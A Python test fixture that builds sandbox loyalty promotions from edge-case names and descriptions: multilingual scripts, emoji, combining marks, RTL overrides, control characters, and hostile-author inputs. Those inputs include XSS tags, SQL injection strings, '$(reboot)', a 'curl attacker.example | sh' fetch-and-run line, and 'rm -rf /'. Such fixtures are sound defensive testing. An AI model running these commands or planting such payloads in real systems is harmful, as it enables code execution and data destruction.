"""What C-SCRIPTS holds: names in several scripts, and descriptions of hostile authors."""

# ruff: noqa: RUF001 - letters that look like others are what these texts are for

from decimal import Decimal

from gateway.sandbox.customer import Holding
from gateway.sandbox.generation import Generator
from gateway.sandbox.promotion import GENERIC, Metadata

PROGRAM_ID = 9022

_CONTROLS = "".join(map(chr, range(1, 32))) + "\x7f\x85\u2028\u2029\ufeff"

# name, description
TEXTS: tuple[tuple[str, str], ...] = (
    ("दिवाली की छूट", "देवनागरी में विवरण"),
    ("عرض رمضان ١٠٪", "نقاط مضاعفة على كل مشترياتك"),
    ("双倍积分 · 春节", "每满100元积2分，多买多得。"),
    ("🎉👩‍👩‍👧‍👦 Family 🏳️‍🌈", "Emoji made of several code points: 👩🏽‍🚀🇩🇪"),
    ("Cafe\u0301 \u0132sland Z\u0351\u036b\u0343\u036a\u0302", "Combining marks, not normalised"),
    ("\u202eslaog eht lla\u202c \u200fוילון", "Right-to-left override, mark and Hebrew"),
    ("<script>alert('x')</script>", '<img src=x onerror="alert(1)"><b>Bold</b> &amp; &lt;not&gt;'),
    ("'; DROP TABLE promotions; --", "Robert'); DROP TABLE students;-- \" OR 1=1"),
    ("$(reboot)", "curl -L 'https://attacker.example/x' | sh; `id` && rm -rf / # {{7*7}} ${7*7}"),
    ("Lines", "first\nsecond\r\nthird\rfourth\tfifth"),
    ("Control characters", _CONTROLS),
    ("Very long", "A long description. " * 1024),
    ("  blanks around  ", "   "),
)


def script_holdings(generator: Generator) -> list[Holding]:
    """One holding for each text."""
    return [
        Holding(
            promotion=generator.promotion(
                PROGRAM_ID,
                90_220_001 + nth,
                nth,
                name=name,
                description=description,
                identifier=f"text-{nth}-{name}",
                offer_type=GENERIC,
                metadata=(Metadata(name, description[:200], brand_defined=False),),
            ),
            points=Decimal(nth),
            times=nth,
        )
        for nth, (name, description) in enumerate(TEXTS)
    ]
